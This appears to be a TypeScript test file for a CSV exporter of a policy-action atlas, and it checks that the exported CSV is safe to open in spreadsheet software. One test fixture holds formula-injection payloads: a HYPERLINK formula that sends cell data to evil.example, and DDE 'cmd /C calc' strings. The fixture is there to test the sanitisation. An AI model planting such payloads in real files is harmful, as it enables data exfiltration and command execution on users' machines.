import { describe, expect, it } from 'vitest';
import { atlasToCsv } from './export.ts';
import { parseCsv } from './csv.ts';
import { action, atlasOf } from '../../../tests/fixtures/atlas.ts';
import type { Action, CompiledAtlas } from './types.ts';

const full: Action = {
  id: 'fra-2020',
  jurisdiction: 'FRA',
  date: { iso: '2020-03', precision: 'month' },
  effective: { iso: '2020-04-01', precision: 'day' },
  ends: { iso: '2021', precision: 'year' },
  level: 'partial',
  category: 'procurement',
  authority: 'Agency',
  instrument: 'Note "A"',
  scope: 'Ministries, agencies',
  deadlines: [
    { date: { iso: '2020-05-01', precision: 'day' }, text: 'stop buying' },
    { date: { iso: '2020-06', precision: 'month' }, text: 'remove' },
  ],
  summary: 'France restricted Acme.',
  confidence: 'high',
  notes: 'Two\nlines',
  sources: [
    { url: 'https://example.org/a', publisher: 'P', title: 'T', published: { iso: '2020-03', precision: 'month' }, language: 'fr', primary: true },
    { url: 'https://example.org/b', publisher: 'P', title: 'T', published: { iso: '2020', precision: 'year' }, language: 'en', primary: false },
  ],
};
const bare: Action = {
  ...full,
  id: 'xin-2019',
  jurisdiction: 'XIN',
  date: { iso: '2019-01-02', precision: 'day' },
  effective: null,
  ends: null,
  level: 'context',
  instrument: 'Agreement',
  scope: 'INTERPOL',
  deadlines: [],
  notes: '',
  sources: [],
};
const atlas: CompiledAtlas = {
  format: 1,
  atlas: { id: 't', title: 'T', subject: 'Acme', description: 'd', credits: 'c', lastReviewed: '2025-01-01', start: '2015-01-01' },
  scale: [],
  jurisdictions: [{ id: 'FRA', name: 'France', kind: 'country' }],
  actions: [full, bare],
  coverage: [],
};

describe('atlasToCsv', () => {
  it('writes the header and one row per action, every field in its column', () => {
    expect(atlasToCsv(atlas).split('\r\n')).toEqual([
      'id,jurisdiction,jurisdiction_name,date,date_precision,effective,ends,level,category,authority,instrument,scope,deadlines,summary,confidence,notes,sources',
      'fra-2020,FRA,France,2020-03,month,2020-04-01,2021,partial,procurement,Agency,"Note ""A""","Ministries, agencies",2020-05-01: stop buying; 2020-06: remove,France restricted Acme.,high,"Two\nlines",https://example.org/a https://example.org/b',
      // A jurisdiction the atlas does not list (a body without actions in the list) is named by its id.
      'xin-2019,XIN,XIN,2019-01-02,day,,,context,procurement,Agency,Agreement,INTERPOL,,France restricted Acme.,high,,',
      '',
    ]);
  });

  it('writes only the header for an atlas without actions', () => {
    expect(atlasToCsv({ ...atlas, actions: [] })).toBe(
      'id,jurisdiction,jurisdiction_name,date,date_precision,effective,ends,level,category,authority,instrument,scope,deadlines,summary,confidence,notes,sources\r\n',
    );
  });
});

// A row an attacker could get into the data through a pasted summary or a malicious pull request.
const hostile = {
  ...action('fra-2022', 'FRA', '2022-03', 'advisory'),
  summary: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  scope: '+1',
  notes: '-cmd|\' /C calc\'!A0',
  authority: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  instrument: '\t=1+1',
  deadlines: [{ date: { iso: '2022-04-01', precision: 'day' as const }, text: '=1+1' }],
};
const hostileAtlas = atlasOf(['FRA'], { actions: [hostile] });

function cells(csv: string): Record<string, string> {
  const table = parseCsv(csv);
  return Object.fromEntries(table.header.map((h, i) => [h.value, table.rows[0].fields[i].value]));
}

describe('events.csv is safe to open in a spreadsheet', () => {
  const row = cells(atlasToCsv(hostileAtlas));

  it('turns every text cell that a spreadsheet would run as a formula into text', () => {
    expect(row.summary).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
    expect(row.scope).toBe("'+1");
    expect(row.notes).toBe("'-cmd|' /C calc'!A0");
    expect(row.authority).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row.instrument).toBe("'\t=1+1");
  });

  it('leaves dates, ids and ordinary text as they are', () => {
    expect(row.date).toBe('2022-03');
    expect(row.date_precision).toBe('month');
    expect(row.id).toBe('fra-2022');
    expect(row.jurisdiction).toBe('FRA');
    // Starts with a date, so not a formula.
    expect(row.deadlines).toBe('2022-04-01: =1+1');
  });
});

describe('atlasToCsv with a note', () => {
  it('starts with the note in one cell after "# ", then the same header and rows', () => {
    const plain = atlasToCsv(atlas);
    const noted = atlasToCsv(atlas, 'Datenstand: 1. Januar 2025, eine Zeile pro Maßnahme');
    const lines = noted.split('\r\n');
    expect(lines[0]).toBe('"# Datenstand: 1. Januar 2025, eine Zeile pro Maßnahme"');
    expect(lines.slice(1).join('\r\n')).toBe(plain);
  });
});
